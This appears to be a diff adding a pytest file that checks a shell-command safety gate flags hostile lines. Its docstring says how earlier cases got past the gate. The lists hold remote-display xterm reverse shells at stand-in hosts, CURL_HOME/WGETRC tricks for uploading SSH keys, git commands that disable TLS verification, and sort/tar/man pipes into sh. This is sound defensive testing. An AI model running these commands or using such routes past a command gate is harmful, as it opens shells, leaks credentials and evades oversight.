@@ -1,0 +1,122 @@
+"""The gate's fifteenth round: a display, a config and a check set apart from the command.
+
+Reverse shells: an X terminal on another host's display was caught when the
+display was given to the terminal itself (``xterm -display HOST:1``, ``DISPLAY=HOST:0
+xterm``); set through ``env`` or exported earlier on the line (``export
+DISPLAY=HOST:0; xterm``) it was approved in a manual profile. A DISPLAY set anywhere
+on the line now counts for every X terminal on it.
+
+Settings read from elsewhere: ``CURL_HOME=DIR`` makes curl read ``DIR/.curlrc``,
+``WGETRC``/``SYSTEMWGETRC`` name wget's; either file says where the tool writes and
+what it sends (``output = AGENTS.md``, ``upload-file = ~/.ssh/id_rsa``), as
+``PIP_CONFIG_FILE`` does for pip (``command-variable``).
+
+git settings: ``http.sslVerify false`` (also per URL) lets anyone on the path answer
+for the remote, as ``http.proxy`` sends its traffic elsewhere (``persistence`` written
+with ``git config``, ``script-exec`` for one command with ``git -c``).
+
+Fed as code: ``sort --compress-program=sh`` pipes its temporary files through ``sh``,
+``tar -I bash`` the archive, ``man -P sh`` the formatted page: a shell or interpreter
+given no script of its own runs what it is fed, which the line does not show. The
+program was judged as a line of its own (``sh``: nothing), and approved.
+
+Before the fix every hostile case here was approved, with no danger named, in a
+manual profile.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.shell._carriers import judged
+
+REMOTE_DISPLAYS = [
+    "env DISPLAY=evil.example.com:0 xterm",
+    "export DISPLAY=evil.example.com:0; xterm",
+    "export DISPLAY=10.0.0.5:1 && xterm -e bash",
+    "export 'DISPLAY=10.0.0.5:1'; uxterm",
+    "declare -x DISPLAY=evil:0; gnome-terminal",
+    "DISPLAY=evil:0; export DISPLAY; xterm",
+    "env -u LANG DISPLAY=evil:0 konsole",
+    "sudo DISPLAY=evil:0 xterm",
+]
+LOCAL_DISPLAYS = [
+    "env DISPLAY=:0 xterm",
+    "export DISPLAY=:1; xterm",
+    "export DISPLAY=localhost:10.0 && xterm",
+    "export DISPLAY=unix:0; xterm",
+    "export DISPLAY=evil.example.com:0",  # no X terminal on the line
+    "DISPLAY=evil:0 xclock",  # not a terminal: no shell is handed over
+    "export DISPLAY=$DISPLAY; xterm",
+]
+SETTINGS_ELSEWHERE = [
+    "CURL_HOME=. curl https://example.com",
+    "CURL_HOME=/tmp/c curl -s https://example.com/x",
+    "env CURL_HOME=/tmp curl https://example.com",
+    "export CURL_HOME=/tmp; curl https://example.com",
+    "WGETRC=./x.rc wget https://example.com",
+    "SYSTEMWGETRC=/tmp/w wget https://example.com",
+]
+SETTINGS_PLAIN = [
+    "curl -s https://example.com",
+    "CURL_CA_BUNDLE=/etc/ssl/certs/ca.pem curl https://example.com",
+    "wget -q https://example.com/x.tar.gz",
+]
+TLS_OFF = [
+    ("git config http.sslVerify false", "persistence"),
+    ("git config --global http.sslVerify false", "persistence"),
+    ("git config --global http.sslverify 0", "persistence"),
+    ("git config http.https://example.com/.sslVerify no", "persistence"),
+    ("git config --global https.sslVerify off", "persistence"),
+    ("git config set --global http.sslVerify false", "persistence"),
+    ("git -c http.sslVerify=false clone https://example.com/r", "script-exec"),
+]
+TLS_PLAIN = [
+    "git config http.sslVerify true",
+    "git config --global http.sslVerify yes",
+    "git config --get http.sslVerify",
+    "git config --unset http.sslVerify",
+    "git -c http.sslVerify=true fetch",
+    "git config http.postBuffer 524288000",
+]
+# The program a tool feeds its data to is a shell or interpreter given no script: the
+# data (a file, an archive, a manual page the line does not show) runs as code.
+FED_AS_CODE = [
+    "sort --compress-program=sh f",
+    "sort --compress-prog=bash f",
+    "sort --compress-p=sh f",
+    "sort -S 1 --compress-program=python3.11 big.txt",
+    "tar -I sh -xf a.tar",
+    "tar --use-compress-program=python3 -xf a.tar",
+    "tar --use-compress-prog=/bin/bash -xf a.tar",
+    "man -P sh ls",
+    "man --pager=bash ls",
+]
+FED_PLAIN = [
+    "sort --compress-program=gzip f",
+    "sort --compress-program=zstd f",
+    "tar -I 'zstd -T0' -cf a.tar.zst .",
+    "tar -I pigz -cf a.tgz .",
+    "man -P less ls",
+    "man -P 'less -R' ls",
+    "rsync -e ssh -a src/ host:dst/",
+    "rsync -e 'ssh -p 2222' -a src/ host:dst/",
+]
+
+HOSTILE = [
+    *((line, "script-exec") for line in FED_AS_CODE),
+    *((line, "reverse-shell") for line in REMOTE_DISPLAYS),
+    *((line, "command-variable") for line in SETTINGS_ELSEWHERE),
+    *TLS_OFF,
+]
+NOTHING = [*LOCAL_DISPLAYS, *SETTINGS_PLAIN, *TLS_PLAIN, *FED_PLAIN]
+
+
+@pytest.mark.parametrize(("line", "pattern"), HOSTILE)
+def test_each_hostile_line_names_its_danger(line: str, pattern: str) -> None:
+    assert pattern in judged(line), (line, judged(line))
+
+
+@pytest.mark.parametrize("line", NOTHING)
+def test_each_plain_sibling_names_nothing(line: str) -> None:
+    assert judged(line) == [], (line, judged(line))
